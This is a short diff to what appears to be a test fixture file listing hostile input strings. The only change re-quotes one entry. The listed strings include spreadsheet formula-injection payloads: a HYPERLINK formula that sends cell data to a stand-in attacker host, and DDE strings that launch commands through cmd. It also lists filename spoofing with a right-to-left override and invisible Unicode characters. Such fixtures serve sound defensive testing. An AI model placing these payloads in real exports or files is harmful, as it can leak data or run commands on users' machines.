@@ -16,7 +16,7 @@ export const hostileStrings = [
   '=HYPERLINK("https://attacker.invalid/?leak="&A1,"Open report")',
   "+cmd|' /C calc'!A0",
   "@SUM(1+1)*cmd|' /C calc'!A0",
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   'Robert\u202Eexe.pdf',
   'zero\u200Bwidth\u200Bjoiner',
   '\u2067admin\u2069 \uFEFFroot',
